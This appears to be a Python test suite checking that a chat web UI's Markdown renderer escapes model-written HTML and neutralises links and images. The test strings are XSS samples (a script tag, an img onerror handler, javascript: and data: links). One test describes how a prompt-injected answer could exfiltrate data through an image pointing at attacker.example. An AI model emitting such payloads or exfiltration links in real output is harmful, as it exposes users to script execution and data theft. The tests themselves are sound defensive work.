"""The web UI's Markdown: what a model writes can format an answer but never become markup,
run a script, or make the page fetch an address."""

from __future__ import annotations

from chatport.api.ui.markdown import CODE_SCOPE, code_css, render


def test_formatting_renders():
    html = render("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert "<s>gone</s>" in html


def test_raw_html_is_escaped():
    html = render('<script>alert(1)</script>\n\n<img src=x onerror="alert(1)">')
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "<img" not in html


def test_script_links_are_not_links():
    html = render("[click](javascript:alert(1)) [data](data:text/html,<b>x</b>) [fine](https://example.com)")
    assert 'href="javascript:' not in html and 'href="data:text/html' not in html
    assert '<a href="https://example.com">fine</a>' in html


def test_images_are_not_fetched():
    # A prompt-injected answer could carry data away in an image address.
    html = render("![secret](https://attacker.example/?q=SECRET)")
    assert "<img" not in html


def test_code_blocks_are_highlighted_with_classes_only():
    html = render("```python\ndef f():\n    return 1\n```")
    assert '<pre><code class="language-python">' in html
    assert '<span class="k">def</span>' in html
    assert "style=" not in html  # the page's policy allows no inline styles
    assert f"{CODE_SCOPE} .k" in code_css()


def test_unknown_languages_are_plain_escaped_code():
    html = render("```nosuchlang\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in html and "<span" not in html
